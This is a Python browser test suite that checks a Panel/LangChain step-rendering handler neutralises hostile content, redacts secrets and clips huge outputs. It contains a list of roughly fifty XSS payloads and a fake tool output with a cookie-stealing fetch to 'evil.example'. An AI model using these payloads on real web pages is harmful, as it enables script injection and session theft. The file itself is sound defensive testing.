"""Hostile content through every path the handler renders, checked in Chromium.

One page holds a section per path: streamed tokens, non-streamed model output,
tool input and output (text and JSON), retrieved documents and their metadata,
error messages (summary and traceback) and run names. Every payload of the
corpus goes through every path from real LangChain runnables while the page
is open, so the streamed updates are checked as well as the first render.
A control pane of raw HTML proves that each detector (dialogs, globals,
requests) does see code that runs.
"""

from __future__ import annotations

import os
import re
import shutil
import time
from pathlib import Path
from typing import Any

import panel as pn
import pytest
from langchain.agents import create_agent
from langchain.agents.middleware import wrap_tool_call
from langchain_core.callbacks import CallbackManagerForRetrieverRun
from langchain_core.documents import Document
from langchain_core.messages import AIMessage, ToolMessage
from langchain_core.retrievers import BaseRetriever
from langchain_core.runnables import RunnableLambda
from langchain_core.tools import StructuredTool, tool

from panel_langchain_steps import ChatStepCallbackHandler
from panel_langchain_steps.testing import ScriptedChatModel, iter_steps, step_tree

from .conftest import run_in_session

pytestmark = pytest.mark.browser

DOCS_IMAGE = Path(__file__).parents[2] / "docs" / "images" / "hostile-trace.png"

EVIL = "http://evil.example"
CONTROL = f'<img src="{EVIL}/control.png" onerror="window.__control = 1; alert(\'control\')">'

#: Known XSS payloads: script tags, event handlers on many elements,
#: javascript: and data: URLs, SVG and MathML tricks, broken and nested
#: markup, HTML entities, and Markdown link and image forms.
PAYLOADS = [
    "<script>alert(1)</script>",
    f'<script src="{EVIL}/x.js"></script>',
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="window.__xss = 1">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<img src="x\nonerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
    '<math href="javascript:alert(1)">click</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.__xss = 1</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    f'<base href="{EVIL}/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "<style>body { display: none }</style>",
    '<div style="position:fixed;inset:0;z-index:99999;background:red">covered</div>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<img src=x onerror=alert(1)//",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    '[click](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    f"![pixel]({EVIL}/pixel.png)",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](x)',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "$$\\href{javascript:alert(1)}{click} \\rule{4000px}{4000px}$$",
]

#: Markdown a model legitimately writes: it must still render as formatting.
SAFE_MARKDOWN = """## Findings

Some *emphasis* and **strong** text.

- first
- second

| tool | calls |
|------|------:|
| search | 2 |

```python
print("hello")
```

See [the docs](https://example.com/docs)."""

#: Secrets in tool input, document metadata and error text; none may reach the page.
SECRETS = {
    "key": "sk-proj-A1b2C3d4E5f6G7h8I9j0K1l2M3n4",
    "password": "correct-horse-battery-staple",
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
}

HUGE = 5_000_000

# Tags and attributes rendered Markdown may contain; anything else is live markup.
ALLOWED_TAGS = {"a", "blockquote", "br", "code", "dd", "del", "div", "dl", "dt", "em", "hr", "input", "li"}
ALLOWED_TAGS |= {"ol", "p", "pre", "s", "section", "span", "strong", "sup", "table", "tbody", "td", "th"}
ALLOWED_TAGS |= {"thead", "tr", "ul", "h1", "h2", "h3", "h4", "h5", "h6"}
ALLOWED_ATTRIBUTES = {
    "class",
    "href",
    "title",
    "target",
    "rel",
    "style",
    "start",
    "checked",
    "disabled",
    "type",
}
SAFE_HREF = re.compile(r"(https?:|mailto:|#)", re.IGNORECASE)
SAFE_STYLE = re.compile(r"text-align:\s*(left|right|center);?")

CORPUS = [*PAYLOADS, SAFE_MARKDOWN]
#: The whole corpus as one text, for paths that show text literally.
JOINED = "\n\n".join(CORPUS)


@tool
def echo(text: str) -> str:
    """Say the text back."""
    return text


@tool
def lookup(queries: list[str], api_key: str) -> dict:
    """Look queries up with an API key."""
    return {"results": queries, "login": f"password={SECRETS['password']}"}


@tool
def explode(text: str) -> str:
    """Fail with the text as the error message."""
    raise ValueError(f"{text} (Authorization: Bearer {SECRETS['jwt']})")


@tool
def huge(size: int) -> str:
    """A tool output of ``size`` characters."""
    return ("<img src=x onerror=alert(1)> " * (size // 29 + 1))[:size]


class HostileRetriever(BaseRetriever):
    """One document per payload, with the payload as its content, source and title."""

    def _get_relevant_documents(
        self, query: str, *, run_manager: CallbackManagerForRetrieverRun
    ) -> list[Document]:
        return [
            Document(page_content=text, metadata={"source": text, "token": SECRETS["key"], "page": 1})
            for text in query.split("\n\n")
        ]


# How the corpus is sent along each path: streamed, one model run per payload
# (so no payload changes how the next one parses); names, one run per payload
# (a title each); elsewhere the whole corpus in one run, payloads side by side.


async def streamed(config: dict) -> None:
    for payload in CORPUS:
        async for _ in ScriptedChatModel(responses=[payload]).astream("hi", config=config):
            pass


async def invoked(config: dict) -> None:
    await ScriptedChatModel(responses=[JOINED]).ainvoke("hi", config=config)


async def tool_text(config: dict) -> None:
    await echo.ainvoke(JOINED, config=config)


async def tool_json(config: dict) -> None:
    await lookup.ainvoke({"queries": CORPUS, "api_key": SECRETS["key"]}, config=config)


async def documents(config: dict) -> None:
    await HostileRetriever().ainvoke(JOINED, config=config)


async def failure(config: dict) -> None:
    with pytest.raises(ValueError):
        await explode.ainvoke({"text": JOINED}, config=config)


async def names(config: dict) -> None:
    """Each payload names a chain, a model or a tool, in turn."""
    for number, payload in enumerate(PAYLOADS):
        if number % 3 == 0:
            await RunnableLambda(lambda text: text).with_config(run_name=payload).ainvoke("x", config=config)
        elif number % 3 == 1:
            await ScriptedChatModel(responses=["ok"], model_name=payload).ainvoke("hi", config=config)
        else:
            await StructuredTool.from_function(echo.func, name=payload).ainvoke({"text": "x"}, config=config)


async def huge_output(config: dict) -> None:
    await huge.ainvoke({"size": HUGE}, config=config)


#: section name -> (how the corpus is sent, handler options)
PATHS: dict[str, tuple[Any, dict]] = {
    "streamed": (streamed, {}),
    "invoked": (invoked, {}),
    "tool-text": (tool_text, {}),
    "tool-json": (tool_json, {}),
    "documents": (documents, {}),
    "error-summary": (failure, {"context_exception": "summary"}),
    "error-traceback": (failure, {"context_exception": "verbose"}),
    "names": (names, {}),
    # Finished, collapsed steps are lines of one component, their titles set by its own script.
    "names-lines": (names, {"collapsed_on_success": True}),
    "huge": (huge_output, {}),
}
#: Sections where each payload must be visible, literally, as text.
LITERAL = ["tool-text", "documents", "error-summary", "error-traceback", "names", "names-lines"]

# Every title and Markdown body of the page, with its section (the nearest
# ``path-*`` class), its text and its elements (Panel's own copy buttons aside).
SCAN = """() => {
  const panes = [];
  const visit = (node, section) => {
    for (const el of node.children) {
      const mark = [...el.classList].find((c) => c.startsWith("path-"));
      const here = mark ? mark.slice(5) : section;
      if (el.shadowRoot) {
        const line = el.classList.contains("step-line");  // a finished step drawn as a line
        const kind = el.classList.contains("step-title") || line ? "title"
          : el.classList.contains("markdown") ? "body" : null;
        const box = line ? el.shadowRoot.querySelector(".step-title")
          : [...el.shadowRoot.children].filter((c) => c.tagName === "DIV").pop();
        if (kind && box) {
          const elements = [...box.querySelectorAll("*")].filter((e) => !e.closest("button.copybtn"));
          panes.push({section: here, kind, text: box.innerText, elements: elements.map((e) => ({
            tag: e.tagName.toLowerCase(), attrs: [...e.attributes].map((a) => [a.name, a.value]),
            text: e.textContent}))});
        }
        visit(el.shadowRoot, here);
      }
      visit(el, here);
    }
  };
  visit(document.body, null);
  return panes;
}"""

COUNT_STEPS = """() => {
  let count = 0;
  const visit = (node) => {
    for (const el of node.children) {
      if (el.classList.contains("step-title")) count++;
      if (el.shadowRoot) visit(el.shadowRoot);
      visit(el);
    }
  };
  visit(document.body);
  return count;
}"""


def words(text: str) -> str:
    return " ".join(text.split())


def live_markup(element: dict) -> list[str]:
    """What about a rendered element could run, load, or restyle the page."""
    problems = [] if element["tag"] in ALLOWED_TAGS else [f"<{element['tag']}>"]
    for name, value in element["attrs"]:
        if name not in ALLOWED_ATTRIBUTES:
            problems.append(f"<{element['tag']} {name}={value!r}>")
        elif name == "href" and not SAFE_HREF.match(value):
            problems.append(f"href={value!r}")
        elif name == "style" and not SAFE_STYLE.fullmatch(value):
            problems.append(f"style={value!r}")
        elif name == "type" and value != "checkbox":
            problems.append(f"type={value!r}")
    return problems


def wait_for_steps(page: Any, expected: int, timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while (count := page.evaluate(COUNT_STEPS)) < expected:
        assert time.monotonic() < deadline, f"{count} of {expected} steps reached the page"
        page.wait_for_timeout(100)


def settle(page: Any) -> None:
    """Wait until the page has loaded what it asked for (no request for 500 ms) and its fonts."""
    page.wait_for_load_state("networkidle")
    page.evaluate("() => document.fonts.ready.then(() => true)")


@pytest.fixture(scope="module")
def hostile_page(open_app: Any) -> dict[str, Any]:
    """Send the corpus along every path into an open page; return what the page shows and did."""

    def app() -> pn.Column:
        sections = [pn.Column(css_classes=[f"path-{name}"], sizing_mode="stretch_width") for name in PATHS]
        return pn.Column(pn.pane.HTML(CONTROL), *sections, sizing_mode="stretch_width")

    with open_app(app, viewport={"width": 1000, "height": 800}) as (page, log, view):
        page.wait_for_function("() => window.__control === 1", timeout=30_000)
        sections = dict(zip(PATHS, view.objects[1:], strict=True))

        async def send_all() -> None:
            for name, (send, options) in PATHS.items():
                params = {"collapsed_on_success": False, "max_steps": len(PAYLOADS), **options}
                handler = ChatStepCallbackHandler(sections[name], **params)
                await send({"callbacks": [handler]})
                handler.flush()  # this callback holds the session: apply what the handler queued

        run_in_session(view, send_all)
        wait_for_steps(page, sum(len(list(iter_steps(step_tree(section)))) for section in sections.values()))
        settle(page)  # anything loaded or focused has fired
        return {
            "log": log,
            "panes": page.evaluate(SCAN),
            "xss": page.evaluate("() => window.__xss"),
        }


def panes_of(hostile_page: dict, section: str, kind: str | None = None) -> list[dict]:
    found = [
        pane
        for pane in hostile_page["panes"]
        if pane["section"] == section and (kind is None or pane["kind"] == kind)
    ]
    assert found, f"nothing rendered in section {section!r}"
    return found


def test_detectors_see_code_that_runs(hostile_page):
    """The control pane's raw HTML runs: dialogs, globals and requests are all observed."""
    log = hostile_page["log"]
    assert "control" in log.dialogs
    assert f"{EVIL}/control.png" in log.requests


def test_no_payload_runs(hostile_page):
    log = hostile_page["log"]
    assert log.dialogs == ["control"]
    assert hostile_page["xss"] is None
    assert log.unexpected_requests() == [f"{EVIL}/control.png"]
    assert log.errors == []


@pytest.mark.parametrize("section", PATHS)
def test_no_live_markup(hostile_page, section):
    for pane in panes_of(hostile_page, section):
        if pane["kind"] == "title":
            # The step's own frame (the heading and its status badge) and nothing from the title.
            heading, badge = pane["elements"]
            assert (heading["tag"], badge["tag"], badge["text"]) == ("h3", "span", ""), pane["text"]
            assert dict(badge["attrs"])["class"].startswith("step-badge ")
            continue
        for element in pane["elements"]:
            assert live_markup(element) == [], pane["text"]


@pytest.mark.parametrize("section", LITERAL)
def test_payloads_show_as_text(hostile_page, section):
    shown = words(" ".join(pane["text"] for pane in panes_of(hostile_page, section)))
    for payload in PAYLOADS:
        assert words(payload) in shown


@pytest.mark.parametrize("section", ["streamed", "invoked"])
def test_model_markdown_still_formats(hostile_page, section):
    elements = [element for pane in panes_of(hostile_page, section, "body") for element in pane["elements"]]
    tags = {element["tag"] for element in elements}
    assert {"h2", "em", "strong", "ul", "li", "table", "th", "td", "pre", "code"} <= tags
    links = {
        dict(element["attrs"]).get("href"): element["text"] for element in elements if element["tag"] == "a"
    }
    assert links["https://example.com/docs"] == "the docs"
    # An image is a link to it: nothing is fetched from the page.
    assert links[f"{EVIL}/pixel.png"] == "image: pixel"


def test_secrets_never_reach_the_page(hostile_page):
    shown = " ".join(pane["text"] for pane in hostile_page["panes"])
    assert "[redacted]" in shown
    for secret in SECRETS.values():
        assert secret not in shown


def test_huge_output_is_clipped_with_a_note(hostile_page):
    text = " ".join(pane["text"] for pane in panes_of(hostile_page, "huge", "body"))
    limit = ChatStepCallbackHandler.param.max_chars.default
    assert f"{HUGE - limit:,} more characters not shown" in text
    assert len(text) < 2 * limit


@wrap_tool_call
async def errors_to_model(request: Any, handler: Any) -> ToolMessage:
    """Tell the model a tool failed, so the agent goes on (the tool's step still fails)."""
    try:
        return await handler(request)
    except Exception as error:
        return ToolMessage(
            content=f"Tool failed: {error}", tool_call_id=request.tool_call["id"], status="error"
        )


def hostile_agent():
    """A real agent whose tool output, documents, tool error and answer carry payloads."""
    retriever = HostileRetriever()

    @tool
    def search(query: str) -> str:
        """Search the web and read the top documents."""
        docs = retriever.invoke(query)
        return "Top result:\n\n<script>fetch('http://evil.example/steal?c=' + document.cookie)</script>\n" + (
            docs[0].page_content
        )

    @tool
    def read_file(path: str) -> str:
        """Read a file."""
        raise PermissionError(f"cannot read {path}: <img src=x onerror=alert('pwned')>")

    answer = (
        "## Summary\n\nThe page tried to run **two scripts**; neither ran.\n\n"
        "| source | payload |\n|---|---|\n| search | `<script>` tag |\n| file | `onerror` handler |\n\n"
        f"<img src=x onerror=alert(1)> [click me](javascript:alert(1)) ![tracker]({EVIL}/pixel.png)\n\n"
        "Sources: [example.com](https://example.com)"
    )
    model = ScriptedChatModel(
        responses=[
            AIMessage(
                content="Let me search for that.",
                tool_calls=[
                    {"name": "search", "args": {"query": PAYLOADS[2]}, "id": "c1", "type": "tool_call"},
                    {
                        "name": "read_file",
                        "args": {"path": "<svg onload=alert(1)>"},
                        "id": "c2",
                        "type": "tool_call",
                    },
                ],
            ),
            answer,
        ]
    )
    return create_agent(
        model, [search, read_file], middleware=[errors_to_model], name="<b>Research</b> agent"
    )


def test_screenshot_of_a_hostile_agent_trace(open_app, tmp_path):
    """A real agent trace with hostile content, as users see it. Saved to
    docs/images/hostile-trace.png when UPDATE_DOCS_IMAGES=1."""

    def app() -> pn.chat.ChatFeed:
        return pn.chat.ChatFeed(sizing_mode="stretch_width", height=2500, auto_scroll_limit=0)

    with open_app(app, viewport={"width": 900, "height": 2520}) as (page, log, feed):
        question = "Summarize the top search result, and read my notes file."
        handler = ChatStepCallbackHandler(feed, collapsed_on_success=False, user="Agent", avatar="A")

        async def run_agent() -> None:
            """What an async ``ChatInterface`` callback does."""
            feed.send(question, user="User", avatar="U", respond=False)
            inputs = {"messages": [("user", question)]}
            async for _ in hostile_agent().astream(inputs, {"callbacks": [handler]}, stream_mode="messages"):
                pass

        run_in_session(feed, run_agent)
        # Once the turn is over (its card collapsed), open its steps, as a user would.
        page.get_by_text(re.compile(r"Steps · \d+ steps? · .*done in")).click()
        wait_for_steps(page, len(list(iter_steps(step_tree(feed)))))
        settle(page)
        shot = tmp_path / "hostile-trace.png"
        page.screenshot(path=str(shot))
        assert log.dialogs == []
        assert log.unexpected_requests() == []
    if os.environ.get("UPDATE_DOCS_IMAGES") == "1":
        DOCS_IMAGE.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(shot, DOCS_IMAGE)


def test_payload_corpus_is_broad():
    assert len(PAYLOADS) >= 30
    assert len(set(PAYLOADS)) == len(PAYLOADS)
